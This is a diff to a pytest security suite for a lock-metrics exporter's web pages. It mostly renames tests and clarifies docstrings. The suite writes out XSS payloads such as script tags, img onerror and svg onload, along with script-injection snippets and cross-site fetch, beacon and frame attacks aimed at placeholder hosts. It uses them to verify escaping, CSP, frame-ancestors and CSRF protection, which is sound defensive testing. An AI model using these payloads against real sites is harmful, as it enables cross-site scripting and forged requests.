@@ -1,4 +1,4 @@
-"""Lost if these fail: a reader's browser, to a name somebody gave a lock, or the exporter, to a page somebody made."""
+"""Attacks on the pages: markup in names, and pages of other sites."""
 
 from collections.abc import Iterator
 from pathlib import Path
@@ -22,7 +22,7 @@ IMAGE = '"><img src=x onerror=document.title="owned">'
 STYLE = "</title></style><style>*{display:none}</style><svg onload=document.title='owned'>"
 LOADED_AT = "tedee_exporter_config_last_reload_success_timestamp_seconds"
 HOSTS = "--host-resolver-rules=MAP *.example 127.0.0.1"
-"""Sites by name, as a browser knows them: to it, 127.0.0.1 is a place of its own that it trusts more than others."""
+"""Host names for the test's servers, because browsers treat 127.0.0.1 differently from other hosts."""
 
 
 @pytest.fixture(scope="module")
@@ -50,7 +50,7 @@ ACCOUNTS = {
     f"home {SCRIPT}".replace('"', "'"): "simulated-key-home",
     f"hotel {IMAGE}".replace('"', "'"): "simulated-key-hotel",
 }
-"""Names of accounts cannot have the one character that names of locks may have."""
+"""Names of accounts cannot contain double quotes, unlike names of locks."""
 
 
 @pytest.fixture(scope="module")
@@ -63,7 +63,7 @@ def exporter(address: Address, tmp_path_factory: pytest.TempPathFactory) -> Iter
 
 @pytest.fixture(scope="module")
 def secured(address: Address, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exporter]:
-    """An exporter that wants a password."""
+    """An exporter that requires a password."""
     web = WebFiles(tmp_path_factory.mktemp("secured"))
     web.write(basic_auth_users={"reader": HASH})
     with running(arguments(web.folder, address), f"--web.config.file={web.file}") as exporter:
@@ -78,43 +78,41 @@ def names(browser: Chrome) -> set[str]:
     return {name.text for name in browser.find_elements(By.CSS_SELECTOR, ".lock .name b")}
 
 
-def complaints(browser: Chrome) -> list[str]:
-    """What the browser has logged since it was asked last."""
+def logged(browser: Chrome) -> list[str]:
+    """Return the messages that the browser has logged since the last call."""
     return [entry["message"] for entry in browser.get_log("browser")]  # type: ignore[no-untyped-call]
 
 
 # Names
 
 
-def test_names_of_markup_are_shown_as_text_and_run_nothing(browser: Chrome, exporter: Exporter) -> None:
-    complaints(browser)
+def test_markup_in_names_is_not_executed(browser: Chrome, exporter: Exporter) -> None:
+    logged(browser)
     browser.get(page_of(exporter))
     assert {SCRIPT, IMAGE, STYLE} <= names(browser)
     assert {each.text for each in browser.find_elements(By.CSS_SELECTOR, ".account h2")} == set(ACCOUNTS)
     assert browser.title == TITLE
     assert not browser.find_elements(By.CSS_SELECTOR, "script, img, svg")
     assert len(browser.find_elements(By.TAG_NAME, "style")) == 1
-    assert complaints(browser) == []
+    assert logged(browser) == []
 
 
 @pytest.mark.parametrize("path", ["", "docs", "metrics", "-/healthy", "-/ready", "no/such/page"])
-def test_the_browser_finds_nothing_wrong_and_is_sent_nowhere_else(
-    browser: Chrome, exporter: Exporter, path: str
-) -> None:
-    complaints(browser)
+def test_pages_have_no_errors_and_load_nothing_else(browser: Chrome, exporter: Exporter, path: str) -> None:
+    logged(browser)
     browser.get(page_of(exporter) + path)
-    # A browser asks each site for its icon, unless a page says which it is.
-    assert [each for each in complaints(browser) if "no/such/page" not in each and "favicon.ico" not in each] == []
+    # A browser requests the icon of a site, unless the page names one.
+    assert [each for each in logged(browser) if "no/such/page" not in each and "favicon.ico" not in each] == []
     loaded = browser.execute_script("return performance.getEntriesByType('resource').map(each => each.name)")
     assert [name for name in loaded if not name.startswith(("data:", page_of(exporter)))] == []
 
 
-SMUGGLED = {
+INJECTED = {
     "a script": "const it = document.createElement('script'); it.text = 'document.title = \"owned\"'",
-    "a script from elsewhere": "const it = document.createElement('script'); it.src = arguments[0]",
+    "a script of another site": "const it = document.createElement('script'); it.src = arguments[0]",
     "a handler": "const it = document.createElement('b'); it.innerHTML = '<b onclick=\"document.title = 1\">'",
     "a style": "const it = document.createElement('style'); it.textContent = '* {display: none}'",
-    "a style from elsewhere": (
+    "a style of another site": (
         "const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = arguments[0]"
     ),
     "a picture": "const it = document.createElement('img'); it.src = arguments[0]",
@@ -122,15 +120,15 @@ SMUGGLED = {
 }
 
 
-@pytest.mark.parametrize("what", SMUGGLED)
-def test_what_is_smuggled_into_the_page_does_nothing(browser: Chrome, exporter: Exporter, what: str) -> None:
-    """As it would be if some text were not escaped after all."""
+@pytest.mark.parametrize("what", INJECTED)
+def test_injected_elements_are_blocked_by_csp(browser: Chrome, exporter: Exporter, what: str) -> None:
+    """Simulates a text that is not escaped."""
     with listening(Reply(body=b'document.title = "owned"')) as elsewhere:
         browser.get(page_of(exporter))
-        complaints(browser)
+        logged(browser)
         insert = "document.body.append(it); it.firstChild?.click?.()"
-        browser.execute_script(f"{SMUGGLED[what]}; {insert}", elsewhere.url("elsewhere.example"))
-        assert eventually(lambda: [each for each in complaints(browser) if "Content Security Policy" in each], "a word")
+        browser.execute_script(f"{INJECTED[what]}; {insert}", elsewhere.url("elsewhere.example"))
+        assert eventually(lambda: [each for each in logged(browser) if "Content Security Policy" in each], "a message")
         assert browser.title == TITLE
         assert browser.find_element(By.CSS_SELECTOR, ".lock").is_displayed()
         assert elsewhere.asked == []
@@ -148,7 +146,7 @@ ATTACKS = {
     "fetch with text": (
         "fetch(target, {method: 'POST', body: 'x', headers: {'Content-Type': 'text/plain'}}).then(done, done)"
     ),
-    "fetch that lives on": "fetch(target, {method: 'POST', mode: 'no-cors', keepalive: true}).then(done, done)",
+    "fetch with keepalive": "fetch(target, {method: 'POST', mode: 'no-cors', keepalive: true}).then(done, done)",
     "a beacon": "navigator.sendBeacon(target, 'x'); setTimeout(done, 500)",
     "an empty beacon": "navigator.sendBeacon(target); setTimeout(done, 500)",
     "XMLHttpRequest": (
@@ -173,7 +171,7 @@ SETTING = """
 
 @pytest.fixture(scope="module")
 def elsewhere() -> Iterator[Server]:
-    """Another site, of whose pages nothing good is to be expected; it remembers what it is asked itself."""
+    """Another site. It records the requests that it receives."""
     with listening(
         Reply(headers={"Content-Type": "text/html"}, body=b"<!doctype html><title>Elsewhere</title>")
     ) as site:
@@ -181,7 +179,7 @@ def elsewhere() -> Iterator[Server]:
 
 
 def attack(browser: Chrome, elsewhere: Server, how: str, target: str) -> None:
-    """Have a page of another site do it."""
+    """Run an attack in a page of another site."""
     browser.get(elsewhere.url("elsewhere.example"))
     browser.execute_async_script(SETTING + ATTACKS[how], target)
 
@@ -191,13 +189,13 @@ def reloads(exporter: Exporter) -> int:
 
 
 def reload(exporter: Exporter, **credentials: Any) -> None:
-    """As an administrator does."""
-    answer = requests.post(f"{exporter.url}/-/reload", timeout=PATIENCE, **credentials)
-    assert (answer.status_code, answer.text) == (200, "reloaded\n")
+    """Reload the configuration as an administrator does."""
+    response = requests.post(f"{exporter.url}/-/reload", timeout=PATIENCE, **credentials)
+    assert (response.status_code, response.text) == (200, "reloaded\n")
 
 
 @pytest.mark.parametrize("how", ATTACKS)
-def test_the_attack_would_reach_a_server_that_is_not_on_its_guard(browser: Chrome, elsewhere: Server, how: str) -> None:
+def test_attack_reaches_an_unprotected_server(browser: Chrome, elsewhere: Server, how: str) -> None:
     with listening() as victim:
         attack(browser, elsewhere, how, victim.url("victim.example") + "/-/reload")
         (method,) = eventually(lambda: {each.method for each in victim.asked}, "the request")
@@ -206,7 +204,7 @@ def test_the_attack_would_reach_a_server_that_is_not_on_its_guard(browser: Chrom
 
 @pytest.mark.parametrize("host", ["exporter.example", "127.0.0.1", "localhost"])
 @pytest.mark.parametrize("how", ATTACKS)
-def test_no_page_of_another_site_makes_the_exporter_reload(
+def test_other_sites_cannot_reload_the_exporter(
     browser: Chrome, exporter: Exporter, elsewhere: Server, how: str, host: str
 ) -> None:
     before = reloads(exporter)
@@ -216,56 +214,50 @@ def test_no_page_of_another_site_makes_the_exporter_reload(
     assert reloads(exporter) == before + 1
 
 
-def test_a_page_that_has_taken_the_exporters_place_by_name_does_not_either(browser: Chrome, exporter: Exporter) -> None:
-    """A site may give its name another address at any time, and its pages then are of one origin with the exporter."""
+def test_dns_rebinding_cannot_reload_the_exporter(browser: Chrome, exporter: Exporter) -> None:
+    """A site can change the address of its name, after which its pages have the same origin as the exporter."""
     browser.get(page_of(exporter, "rebound.example") + "-/healthy")
-    post = "fetch('/-/reload', {method: 'POST'}).then(answer => arguments[0](answer.status))"
+    post = "fetch('/-/reload', {method: 'POST'}).then(response => arguments[0](response.status))"
     assert browser.execute_async_script(post) == 403
 
 
-def test_the_time_of_the_last_reload_is_that_of_the_last_honest_one(
-    browser: Chrome, exporter: Exporter, elsewhere: Server
-) -> None:
+def test_attacks_do_not_change_last_reload_time(browser: Chrome, exporter: Exporter, elsewhere: Server) -> None:
     before = exporter.value(LOADED_AT)
     for how in ATTACKS:
         attack(browser, elsewhere, how, page_of(exporter) + "-/reload")
     scraped = exporter.value("process_cpu_seconds_total")
-    eventually(lambda: exporter.value("process_cpu_seconds_total") != scraped, "metrics of a later moment")
+    eventually(lambda: exporter.value("process_cpu_seconds_total") != scraped, "newer metrics")
     assert exporter.value(LOADED_AT) == before
     reload(exporter)
     eventually(lambda: exporter.value(LOADED_AT) != before, "the administrator's reload")
 
 
 @pytest.mark.parametrize("path", ["", "docs"])
-def test_no_page_of_another_site_shows_the_exporters_in_a_frame(
-    browser: Chrome, exporter: Exporter, elsewhere: Server, path: str
-) -> None:
-    complaints(browser)
+def test_other_sites_cannot_frame_the_pages(browser: Chrome, exporter: Exporter, elsewhere: Server, path: str) -> None:
+    logged(browser)
     attack(browser, elsewhere, "a frame", page_of(exporter) + path)
     browser.switch_to.frame(browser.find_element(By.TAG_NAME, "iframe"))
     assert browser.execute_script("return document.URL") == "chrome-error://chromewebdata/"
     assert not browser.find_elements(By.CSS_SELECTOR, ".lock, .account")
-    (why,) = complaints(browser)
-    assert "frame-ancestors 'none'" in why
+    (message,) = logged(browser)
+    assert "frame-ancestors 'none'" in message
 
 
-def test_a_frame_shows_what_does_not_mind(browser: Chrome, elsewhere: Server) -> None:
-    """So that the test before it tests something."""
+def test_unprotected_page_can_be_framed(browser: Chrome, elsewhere: Server) -> None:
+    """Shows that the previous test would fail without the header."""
     attack(browser, elsewhere, "a frame", elsewhere.url("victim.example"))
     browser.switch_to.frame(browser.find_element(By.TAG_NAME, "iframe"))
     assert browser.execute_script("return document.title") == "Elsewhere"
 
 
-# BasicAuth
+# Passwords
 
 
 def status_of(browser: Chrome) -> int:
     return int(browser.execute_script("return performance.getEntriesByType('navigation')[0].responseStatus"))
 
 
-def test_a_reader_with_the_password_sees_the_page_and_nobody_else(
-    browser: Chrome, secured: Exporter, elsewhere: Server
-) -> None:
+def test_page_requires_the_password(browser: Chrome, secured: Exporter, elsewhere: Server) -> None:
     browser.get(page_of(secured))
     assert status_of(browser) == 401
     assert names(browser) == set()
@@ -278,11 +270,11 @@ def test_a_reader_with_the_password_sees_the_page_and_nobody_else(
     assert (status_of(browser), browser.title) == (200, TITLE)
     assert SCRIPT in names(browser)
 
-    # The page loads itself again, and links lead to others, without anybody typing anything.
+    # The browser sends the password again with other pages.
     browser.get(page_of(secured) + "docs")
     assert status_of(browser) == 200
 
-    # A browser that knows the password sends it along, whoever has made the page that asks.
+    # The browser also sends the password with requests of other sites.
     for how in ATTACKS:
         attack(browser, elsewhere, how, page_of(secured) + "-/reload")
     reload(secured, auth=("reader", PASSWORD))
